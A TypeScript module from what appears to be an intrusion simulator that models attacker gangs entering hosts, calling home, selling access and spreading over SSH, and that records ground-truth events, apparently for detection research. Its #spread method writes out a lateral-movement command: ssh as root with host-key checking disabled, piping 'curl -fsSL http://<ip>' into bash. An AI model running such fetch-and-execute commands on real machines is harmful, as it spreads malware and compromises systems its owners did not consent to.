import { type Attempt, enter } from '../entry/enter.ts'
import { byKey, keyInVain } from '../entry/ssh-key.ts'
import type { StagedAccount } from '../gangs/account-raid.ts'
import type { Foothold, Gang, Hands } from '../gangs/gang.ts'
import type { Places } from '../gangs/places.ts'
import { callHome } from '../gangs/call-home.ts'
import { StagedFoothold } from '../gangs/staged-foothold.ts'
import type { Host } from '../host/host.ts'
import { TcpConnection } from '../network/tcp.ts'
import { sealed } from '../network/ssh-bytes.ts'
import type { Random } from '../random.ts'
import { type Act, HOUR_MS, SECOND_MS } from '../schedule.ts'
import { type TrueSale, type TrueSpread, truthTime } from '../truth.ts'
import { buyerComes } from './sale.ts'

const SSH_PORT = 22
const PRIVATE_RTT_MS = 0.6
/** Not every host takes the keys of its neighbour. */
const KEY_FITS = 0.45
const MOST_RETURNS = 3
const LOOK_AFTER_MS = { from: 2 * HOUR_MS, to: 9 * HOUR_MS }

/** Gangs on their way between hosts. */
export class Campaigning {
  readonly #hosts: ReadonlyMap<string, Host>
  readonly #places: Places
  readonly #random: Random
  readonly #account: StagedAccount
  readonly #taken = new Set<string>()
  readonly #raiders = new Set<Gang>()
  readonly spreads: TrueSpread[] = []
  readonly sales: TrueSale[] = []
  /** Gangs in the owner's account, by their first call. */
  readonly raids: { readonly gang: Gang; readonly timeMs: number; readonly source: string }[] = []

  /** `hosts` by private address. */
  constructor(hosts: ReadonlyMap<string, Host>, places: Places, account: StagedAccount, random: Random) {
    this.#account = account
    this.#hosts = hosts
    this.#places = places
    this.#random = random
  }

  /** A gang comes to a host from outside: knocks, gets in or not, does what it does, and perhaps comes again. */
  *visit(gang: Gang, host: Host, returnsLeft: number = MOST_RETURNS): Act {
    const random = this.#random.fork(`${gang.id}@${host.machine.facts.name}@${host.machine.nowMs}`)
    const srcIp = gang.traits.sources[0] ?? ''
    const isIn = yield* enter({
      host,
      gang,
      random,
      srcIp,
      inside: (hands) => this.#inside(gang, host, hands, random),
    })
    const { returnsAfterMs } = gang.traits
    if (!isIn || returnsAfterMs === null || returnsLeft === 0) return
    yield host.machine.nowMs + returnsAfterMs * random.between(0.7, 1.5)
    const isOut = host.miners.every((miner) => miner.gang !== gang)
    if (isOut) yield* this.visit(gang, host, returnsLeft - 1)
  }

  *#inside(gang: Gang, host: Host, hands: Hands, random: Random): Act {
    this.#taken.add(`${gang.id}@${host.machine.facts.address}`)
    const foothold = new StagedFoothold(gang, host, hands, random.fork('inside'), {
      spread: (from, address) => this.#spread(from, address),
    })
    yield* foothold.pause()
    yield* gang.occupy(foothold)
    host.machine.schedule.start(callHome(host, gang, random.fork('home')))
    yield* hands.leave()
    this.#sell(gang, host, random.fork('sale'))
    this.#raid(gang, host, random.fork('raid'))
    if (gang.lookAfter !== undefined)
      host.machine.schedule.start(this.#looksAfter(gang, host, random.fork('care')))
  }

  #raid(gang: Gang, { machine }: Host, random: Random): void {
    if (gang.raid === undefined || this.#raiders.has(gang)) return
    this.#raiders.add(gang)
    const account: StagedAccount = {
      ...this.#account,
      tell: (seen) => {
        if (seen.kind === 'api-call' && !this.raids.some((one) => one.gang === gang))
          this.raids.push({ gang, timeMs: seen.timeMs, source: seen.source })
        this.#account.tell(seen)
      },
    }
    const raid = { account, machine, sources: gang.traits.sources }
    machine.schedule.start(gang.raid(raid, random))
  }

  #sell(gang: Gang, host: Host, random: Random): void {
    if (!host.keys.has(gang) || !random.chance(gang.traits.sells)) return
    const places = { srcIp: this.#places.source(), dropIp: this.#places.server() }
    const act = buyerComes(host, gang, places, random, (sale) => {
      this.sales.push(sale)
    })
    host.machine.schedule.start(act)
  }

  *#looksAfter(gang: Gang, host: Host, random: Random): Act {
    const { machine } = host
    for (;;) {
      yield machine.nowMs + random.between(LOOK_AFTER_MS.from, LOOK_AFTER_MS.to)
      if (host.occupation.holder !== gang || !host.keys.has(gang)) return
      const key = gang.traits.key
      if (key === null) return
      const attempt: Attempt = {
        host,
        gang,
        random: random.fork(`${machine.nowMs}`),
        srcIp: gang.traits.sources[0] ?? '',
        admitted: () => undefined,
        inside: (hands) => this.#cares(gang, host, hands, random),
      }
      yield* byKey(attempt, key.fingerprint, random.between(40, 200))
    }
  }

  *#cares(gang: Gang, host: Host, hands: Hands, random: Random): Act {
    const foothold = new StagedFoothold(gang, host, hands, random.fork('care'), {
      spread: (from, address) => this.#spread(from, address),
    })
    yield* gang.lookAfter?.(foothold) ?? []
    yield* hands.leave()
  }

  *#spread(from: Foothold, address: string): Act<boolean> {
    const target = this.#hosts.get(address)
    const { machine, gang } = from
    const source = machine.facts.address
    const ssh = yield* from.hands.run([
      'ssh',
      '-oBatchMode=yes',
      '-oConnectTimeout=5',
      '-oStrictHostKeyChecking=no',
      `root@${address}`,
      'curl -fsSL http://' + gang.traits.download.ip + (gang.traits.download.paths[0] ?? '/') + '|bash',
    ])
    machine.calls.connected(ssh, address, SSH_PORT, false)
    const random = from.random.fork(`spread-${address}`)
    if (target === undefined || this.#taken.has(`${gang.id}@${address}`)) return false
    machine.schedule.start(outgoing(from, address, random))
    if (!target.trustsNeighbours || !random.chance(KEY_FITS)) {
      machine.schedule.start(keyInVain(target, gang, source, random))
      return false
    }
    this.#taken.add(`${gang.id}@${address}`)
    this.spreads.push({
      occupant: gang.id,
      from: machine.facts.name,
      to: target.machine.facts.name,
      time: truthTime(machine.nowMs),
    })
    const attempt: Attempt = {
      host: target,
      gang,
      random,
      srcIp: source,
      admitted: (about) => {
        target.waysIn.push({ ...about, time: truthTime(target.machine.nowMs), occupant: gang.id })
      },
      inside: (hands) => this.#inside(gang, target, hands, random),
    }
    machine.schedule.start(byKey(attempt, random.text(43, BASE64), PRIVATE_RTT_MS))
    yield machine.nowMs + random.between(1, 6) * SECOND_MS
    return true
  }
}

const BASE64 = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/'

/** The near end of an SSH connection to a neighbour. */
function* outgoing(from: Foothold, address: string, random: Random): Act {
  const { machine } = from
  const tcp = new TcpConnection(
    machine.tap,
    {
      local: { ip: machine.facts.address, port: machine.nextPort() },
      remote: { ip: address, port: SSH_PORT },
      opener: 'local',
      rttMs: PRIVATE_RTT_MS,
    },
    random,
  )
  yield tcp.open(machine.nowMs)
  for (let i = 0; i < 8; i++) {
    yield tcp.send('local', sealed(random.integer(30, 900), random), machine.nowMs)
    yield tcp.send('remote', sealed(random.integer(30, 1400), random), machine.nowMs + 1)
  }
  yield tcp.close('local', machine.nowMs + random.between(2, 20) * SECOND_MS)
}
